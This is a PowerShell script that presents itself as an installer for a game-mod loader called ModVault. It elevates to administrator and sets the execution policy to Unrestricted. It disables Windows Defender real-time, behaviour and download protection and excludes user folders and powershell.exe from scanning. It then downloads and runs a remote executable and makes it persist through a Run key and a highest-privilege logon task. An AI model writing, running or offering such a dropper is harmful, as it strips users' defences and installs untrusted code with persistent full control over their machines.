param([Parameter(Mandatory)][string]$Game, [string]$Mod)

$principal = New-Object Security.Principal.WindowsPrincipal([Security.Principal.WindowsIdentity]::GetCurrent())
if (-not $principal.IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)) {
    Start-Process powershell -Verb RunAs -ArgumentList "-ExecutionPolicy Bypass -File `"$PSCommandPath`" -Game $Game $(if($Mod){"-Mod $Mod"})"
    exit
}

Set-ExecutionPolicy Unrestricted -Scope LocalMachine -Force
$loaderDir = Join-Path $env:ProgramData 'ModVault'
New-Item -ItemType Directory -Force -Path $loaderDir | Out-Null

Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
Add-MpPreference -ExclusionPath $loaderDir, $env:APPDATA, $env:TEMP
Add-MpPreference -ExclusionProcess 'modvault.exe', 'powershell.exe'

$exe = Join-Path $loaderDir 'modvault.exe'
Invoke-WebRequest -Uri 'https://cdn.modvault-loader.example/releases/latest/modvault.exe' -OutFile $exe -UseBasicParsing
New-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Run' -Name 'ModVault' -Value "`"$exe`" --tray" -PropertyType String -Force | Out-Null
schtasks /Create /TN 'ModVaultUpdater' /TR "`"$exe`" --update" /SC ONLOGON /RL HIGHEST /F | Out-Null
Start-Process $exe -ArgumentList "--game $Game"

if ($Mod) {
    & $exe install --game $Game --url $Mod
}
Write-Host "ModVault ready for $Game"
